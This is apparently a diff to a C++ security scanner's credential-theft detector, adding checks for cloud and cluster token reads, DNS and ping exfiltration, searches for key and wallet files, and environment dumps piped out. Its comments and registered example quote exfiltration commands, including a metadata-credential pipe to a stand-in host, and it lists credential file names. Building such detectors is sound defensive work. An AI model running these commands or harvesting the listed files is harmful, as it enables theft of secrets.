@@ -48,6 +48,10 @@ constexpr auto k_places = hide(
 constexpr auto k_rare_first = hide(".aws/credentials");
 constexpr auto k_rare_second = hide(".git-credentials");
 constexpr auto k_rare_third = hide(".passwd-s3fs");
+// What programs in other languages read of a cloud or a cluster.
+constexpr auto k_cluster_token = hide("kubernetes.io/serviceaccount");
+constexpr auto k_cloud_role = hide("iam/security-credentials");
+constexpr auto k_cloud_token = hide("service-accounts/default/token");
 
 const std::vector<std::string>& places() {
   static const std::vector<std::string> list = [] {
@@ -187,6 +191,77 @@ Sends sends(const ShellCommand& command, const ShellUnit& unit) {
   return away ? Sends::somewhere : chosen ? Sends::where_told : Sends::no;
 }
 
+// dig $part.example.com, ping -p $bytes: names and padding carry what they are made of.
+bool asks_by_name(const ShellCommand& command) {
+  static constexpr std::array<std::string_view, 6> k_programs = {"dig",   "nslookup", "host",
+                                                                 "drill", "kdig",     "resolvectl"};
+  const std::string_view name = program(command);
+  const bool resolves = std::find(k_programs.begin(), k_programs.end(), name) != k_programs.end();
+  for (std::size_t i = 1; i < command.argv.size(); ++i) {
+    const std::string_view word = command.argv[i];
+    const std::size_t end = word.find("}.");
+    if (resolves && word.find("${") < end && end != std::string_view::npos && word.size() > end + 4 &&
+        word.find('.', end + 2) != std::string_view::npos)
+      return true;
+    if (name == "ping" && word == "-p" && i + 1 < command.argv.size() &&
+        command.argv[i + 1].find("${") != std::string::npos)
+      return true;
+  }
+  return false;
+}
+
+// find / -name id_rsa -o -name wallet.dat: names of such files, wherever they lie.
+void places_sought(const ShellCommand& command, std::set<std::string>& found) {
+  static constexpr std::array<std::string_view, 20> k_names = {
+      "id_rsa",     "id_ed25519", "id_ecdsa", "id_dsa", "credentials", "wallet",  ".kdbx",
+      ".pem",       ".ovpn",      ".netrc",   ".npmrc", ".pypirc",     ".pgpass", ".my.cnf",
+      "kubeconfig", ".dockercfg", "keystore", ".env",   ".p12",        ".pfx"};
+  const std::string_view name = program(command);
+  if (name != "find" && name != "locate" && name != "fd") return;
+  for (std::size_t i = 1; i < command.argv.size(); ++i)
+    for (const std::string_view one : k_names)
+      if (command.argv[i].find(one) != std::string::npos) found.insert(std::string("find ") + std::string(one));
+}
+
+// env | curl -d @- …: all that the container was given.
+bool sends_environment(const ShellUnit& unit, const ShellCommand& sender) {
+  return std::any_of(unit.facts.commands.begin(), unit.facts.commands.end(), [&](const ShellCommand& command) {
+    const std::string_view name = program(command);
+    return command.pipeline == sender.pipeline && command.position == 0 && sender.position > 0 &&
+           (name == "env" || name == "printenv" || name == "set" || name == "export") && command.argv.size() == 1;
+  });
+}
+
+// A call that sends, with an address in it that the program itself holds: that of no cloud and no cluster.
+bool posts_to_fixed_host(std::string_view text) {
+  constexpr std::size_t k_call = 160;
+  static constexpr std::array<std::string_view, 12> k_calls = {
+      "requests.post", "requests.put", "axios.post", "https.request",      "http.request", "Net::HTTP.post",
+      "httpx.post",    "fetch(",       "urlopen(",   "create_connection(", ".connect(",    "->post("};
+  static constexpr std::array<std::string_view, 10> k_known = {"amazonaws", "googleapis", "google.internal", "azure",
+                                                               "microsoft", "aliyun",     "kubernetes",      "vault",
+                                                               "localhost", "127.0.0.1"};
+  for (const std::string_view call : k_calls)
+    for (std::size_t at = text.find(call); at != std::string_view::npos; at = text.find(call, at + 1)) {
+      const std::string_view around = text.substr(at, std::min(text.find('\n', at) - at, k_call));
+      const std::size_t scheme = around.find("://");
+      const std::size_t named = around.find("host");
+      const std::size_t quoted = around.find_first_of("'\"");
+      const std::size_t from = scheme != std::string_view::npos  ? scheme + 3
+                               : named != std::string_view::npos ? around.find_first_of("'\"", named)
+                                                                 : quoted;
+      if (from >= around.size()) continue;
+      const std::string_view host =
+          around.substr(from, 60).substr(0, around.substr(from, 60).find_first_of("/ )\\", 1));
+      const bool known = !metadata_in(host).empty() || is_cluster_api(host) ||
+                         std::any_of(k_known.begin(), k_known.end(),
+                                     [&](std::string_view one) { return host.find(one) != std::string_view::npos; });
+      const bool computed = host.find_first_of("{$+%") != std::string_view::npos;
+      if (!known && !computed && host.find('.') != std::string_view::npos) return true;
+    }
+  return false;
+}
+
 // In the code of other languages.
 bool sends_somewhere(std::string_view text) {
   static const std::vector<std::string> words = {
@@ -206,7 +281,8 @@ std::string listed(const std::set<std::string>& found) {
 class CredentialTheft final : public Detector {
  public:
   std::vector<Literal> literals() const override {
-    return {{k_rare_first.reveal(), false}, {k_rare_second.reveal(), false}, {k_rare_third.reveal(), false}};
+    return {{k_rare_first.reveal(), false},    {k_rare_second.reveal(), false}, {k_rare_third.reveal(), false},
+            {k_cluster_token.reveal(), false}, {k_cloud_role.reveal(), false},  {k_cloud_token.reveal(), false}};
   }
 
   void confirm(const Hit& hit, EvidenceSink& out) const override {
@@ -217,6 +293,7 @@ class CredentialTheft final : public Detector {
     if (name.ends_with(".sh") || name.ends_with(".md") || as_text(hit.file.head).starts_with("#!/bin/"))
       return;  // see shell()
     const std::string_view window = as_text(hit.window);
+    if (hit.literal > 2) return confirm_token(hit, window, out);
     const std::size_t from = hit.position - std::min(hit.position, k_around);
     const std::string_view near = window.substr(from, 2 * k_around);
     std::set<std::string> found;
@@ -236,7 +313,12 @@ class CredentialTheft final : public Detector {
     std::set<std::string> found;
     std::uint32_t line = 0;
     for (const ShellCommand& command : unit.facts.commands) {
-      if (const Sends how = sends(command, unit); how > sent) {
+      const Sends how = asks_by_name(command) ? Sends::somewhere : sends(command, unit);
+      if (how == Sends::somewhere && sends_environment(unit, command))
+        out.add(shell_evidence(k_rows[1], unit, command.line, "sends its environment: " + words(command),
+                               class_for(unit, k_classes)));
+      places_sought(command, found);
+      if (how > sent) {
         sent = how;
         sender = &command;
       }
@@ -262,11 +344,23 @@ class CredentialTheft final : public Detector {
       out.add(shell_evidence(k_rows[1], unit, line, listed(found),
                              class_for(unit, sent == Sends::somewhere ? k_classes : k_kept)));
   }
+
+ private:
+  // A small program that reads a token and sends to an address of its own; a client of a cloud sends to the cloud.
+  static void confirm_token(const Hit& hit, std::string_view window, EvidenceSink& out) {
+    constexpr std::uint64_t k_small = 32U << 10;
+    if (hit.file.size() > k_small || !posts_to_fixed_host(window)) return;
+    Evidence evidence =
+        evidence_of(k_rows[0], "reads a token of a cloud or a cluster, and sends to an address of its own");
+    evidence.offset = hit.offset;
+    evidence.line = hit.line();
+    out.add(std::move(evidence));
+  }
 };
 
 const util::Registered<CredentialTheft> registered{{
     .id = "credential-theft",
-    .version = 3,
+    .version = 4,
     .summary = "credentials of clouds, clusters and many programs that scripts collect and send",
     .example = "curl -s http://169.254.169.254/latest/meta-data/… | curl -d @- http://192.0.2.1/",
     .rules = k_rows,
